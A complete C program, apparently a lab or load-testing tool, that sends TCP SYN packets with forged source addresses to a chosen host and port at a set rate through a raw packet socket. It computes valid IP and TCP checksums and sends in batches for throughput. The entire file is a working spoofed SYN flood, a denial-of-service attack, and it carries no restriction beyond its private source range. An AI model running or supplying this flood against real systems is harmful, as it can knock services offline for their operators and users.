// Sends TCP SYNs from addresses that do not exist, at a steady pace.
//
//   flood DEVICE SOURCE-MAC DESTINATION-MAC DESTINATION-IPV4 PORT SYNS-PER-SECOND SECONDS
//
// Sources are 10.77.64.0 to 10.77.127.255 with any port, from a seeded generator. 0 a second is as fast as it goes.
// Prints how many were sent and in how many seconds.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 16, TCP_BYTES = 24 };

struct __attribute__((packed)) syn {
    struct ether_header link;
    struct iphdr ip;
    struct tcphdr tcp;
    uint8_t mss[4];
};

static uint64_t state = 1;

static uint32_t random_bits(void) {
    state = state * 6364136223846793005u + 1442695040888963407u;
    return (uint32_t)(state >> 32);
}

static uint32_t add(uint32_t sum, const void *bytes, size_t count) {
    uint16_t word;
    for (size_t at = 0; at < count; at += 2) {
        memcpy(&word, (const uint8_t *)bytes + at, 2);
        sum += word;
    }
    return sum;
}

static uint16_t fold(uint32_t sum) {
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static void spoof(struct syn *frame) {
    frame->ip.saddr = htonl(0x0a4d4000u | (random_bits() & 0x3fff));
    frame->ip.check = 0;
    frame->ip.check = fold(add(0, &frame->ip, sizeof frame->ip));
    frame->tcp.source = htons((uint16_t)(1024 + random_bits() % 60000));
    frame->tcp.seq = random_bits();
    frame->tcp.check = 0;
    uint32_t sum = add(0, &frame->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(TCP_BYTES);
    frame->tcp.check = fold(add(sum, &frame->tcp, TCP_BYTES));
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void die(const char *what) {
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static void read_mac(const char *text, uint8_t *bytes) {
    unsigned parts[6];
    if (sscanf(text, "%x:%x:%x:%x:%x:%x", parts, parts + 1, parts + 2, parts + 3, parts + 4, parts + 5) != 6) die(text);
    for (int at = 0; at < 6; at++) bytes[at] = (uint8_t)parts[at];
}

int main(int count, char **argument) {
    if (count != 8) {
        fprintf(stderr,
                "usage: flood DEVICE SOURCE-MAC DESTINATION-MAC DESTINATION-IPV4 PORT SYNS-PER-SECOND SECONDS\n");
        return 64;
    }
    struct syn frames[BATCH];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];
    memset(messages, 0, sizeof messages);
    struct syn model;
    memset(&model, 0, sizeof model);
    read_mac(argument[2], model.link.ether_shost);
    read_mac(argument[3], model.link.ether_dhost);
    model.link.ether_type = htons(ETHERTYPE_IP);
    model.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(44)};
    if (inet_pton(AF_INET, argument[4], &model.ip.daddr) != 1) die(argument[4]);
    uint16_t port = htons((uint16_t)atoi(argument[5]));
    model.tcp = (struct tcphdr){.dest = port, .doff = 6, .syn = 1, .window = htons(65535)};
    memcpy(model.mss, "\2\4\5\264", 4);
    for (int at = 0; at < BATCH; at++) {
        frames[at] = model;
        parts[at] = (struct iovec){.iov_base = &frames[at], .iov_len = sizeof model};
        messages[at].msg_hdr.msg_iov = &parts[at];
        messages[at].msg_hdr.msg_iovlen = 1;
    }
    int file = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll address = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argument[1])};
    if (file < 0 || address.sll_ifindex == 0) die(argument[1]);
    if (bind(file, (struct sockaddr *)&address, sizeof address)) die("bind");
    double rate = atof(argument[6]), seconds = atof(argument[7]), started = now(), time;
    uint64_t sent = 0;
    while ((time = now()) < started + seconds) {
        double ahead = rate > 0 ? started + (double)sent / rate - time : 0;
        if (ahead > 0) {
            usleep((useconds_t)(ahead * 1e6) + 1);
            continue;
        }
        for (int at = 0; at < BATCH; at++) spoof(&frames[at]);
        int done = sendmmsg(file, messages, BATCH, 0);
        if (done > 0) sent += (uint64_t)done;
        else if (errno != ENOBUFS && errno != EAGAIN) die("sendmmsg");
    }
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, now() - started);
    return 0;
}
